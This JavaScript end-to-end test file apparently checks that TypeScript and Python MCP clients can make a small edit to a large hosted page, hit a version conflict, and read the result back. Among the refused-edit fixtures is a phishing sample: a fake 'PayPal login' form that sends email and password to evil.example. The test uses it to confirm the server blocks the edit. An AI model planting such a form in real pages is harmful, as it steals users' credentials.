// The official TypeScript and Python clients edit one word of a page of 5 MB with a short request, meet a conflict, and read
// back what they wrote.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { HANGS, operatorKey, ROOT, startServer } from '../server.mjs';
import { view } from './walk.mjs';

const LINE = '<p>Some text that fills the page, line after line.</p>\n';
const LARGE = `<!doctype html>\n<title>Large</title>\n<p>needle</p>\n${LINE.repeat(Math.ceil(5e6 / LINE.length))}`;
/** The whole body of the request that edits. */
const MOST_SENT = 2048;

/** Edits that are refused, each with its code; none of them may change anything. */
const REFUSED = {
  edit_not_unique: [{ find: '<p>', replace: '<b>' }],
  edit_no_match: [{ find: 'haystack', replace: 'x' }],
  edit_overlap: [{ find: 'thread $', replace: 'x' }, { find: '$&', replace: 'y' }],
  phishing_blocked: [{ find: '<title>Large</title>', replace: '<title>PayPal login</title><form action="https://evil.example"><input type=email><input type=password></form>' }],
};

let server, key;

before(async () => {
  server = await startServer();
  key = await operatorKey(server);
});
after(async () => server?.stop());

async function publish() {
  const form = new FormData();
  form.append('file', new Blob([LARGE], { type: 'text/html' }), 'large.html');
  const answer = await fetch(`${server.url}/sites`, { method: 'POST', headers: { authorization: `Bearer ${key}` }, body: form });
  assert.equal(answer.status, 201);
  return answer.json();
}

async function check(site, said) {
  assert.ok(said.sent > 0 && said.sent < MOST_SENT, `${said.sent} bytes sent`);
  assert.equal(said.version, 2);
  assert.match(said.diff, /^-<p>needle<\/p>$/m);
  assert.match(said.diff, /^\+<p>thread \$&<\/p>$/m);
  assert.match(said.conflict, /"conflict"/);
  for (const code of Object.keys(REFUSED)) assert.match(said.refused[code], new RegExp(`"${code}"`), code);
  assert.equal(said.latest, 2, 'what was refused changed nothing');
  assert.equal(said.read, '<p>thread $&</p>\n');
  const shown = (await view(server, site)).text();
  assert.equal(shown.length, LARGE.length + 'thread $&'.length - 'needle'.length);
  assert.ok(shown.includes('<p>thread $&</p>'));
}

test('the TypeScript client edits a word, meets a conflict and reads back', async () => {
  const site = await publish();
  let sent = 0;
  const counting = (address, options) => {
    sent += Buffer.byteLength(options?.body ?? '');
    return fetch(address, options);
  };
  const headers = { authorization: `Bearer ${key}` };
  const client = new Client({ name: 'e2e', version: '1' }, { versionNegotiation: { mode: 'auto' } });
  await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), { fetch: counting, requestInit: { headers } }));
  await client.listTools();
  const call = (name, args) => client.callTool({ name, arguments: { site: site.id, ...args } });
  const expected = { expected_updated_at: site.updated_at };
  const before = sent;
  const edited = await call('edit_site', { edits: [{ find: 'needle', replace: 'thread $&' }], ...expected });
  const said = { sent: sent - before, ...edited.structuredContent };
  const conflict = await call('edit_site', { edits: [{ find: 'thread', replace: 'rope' }], ...expected });
  assert.ok(conflict.isError);
  const refused = {};
  for (const [code, edits] of Object.entries(REFUSED)) {
    const answer = await call('edit_site', { edits });
    assert.ok(answer.isError, code);
    refused[code] = answer.content[0].text;
  }
  const latest = (await call('get_site', {})).structuredContent.version;
  const read = await call('read_site', { start_line: 3, end_line: 3 });
  await client.close();
  await check(site, {
    ...said,
    conflict: conflict.content[0].text,
    refused,
    latest,
    read: read.structuredContent.text,
  });
});

test('the Python client edits a word, meets a conflict and reads back', async () => {
  const site = await publish();
  const script = path.join(ROOT, 'e2e/mcp/edit_client.py');
  const { stdout } = await promisify(execFile)(
    path.join(ROOT, '.test/venv/bin/python'),
    [script, server.url, site.id, String(site.updated_at), JSON.stringify(REFUSED)],
    { env: { PATH: process.env.PATH, PYTHONDONTWRITEBYTECODE: '1', DROPLEAF_KEY: key }, timeout: HANGS },
  );
  const said = Object.assign({}, ...stdout.trim().split('\n').map((line) => JSON.parse(line)));
  await check(site, said);
});
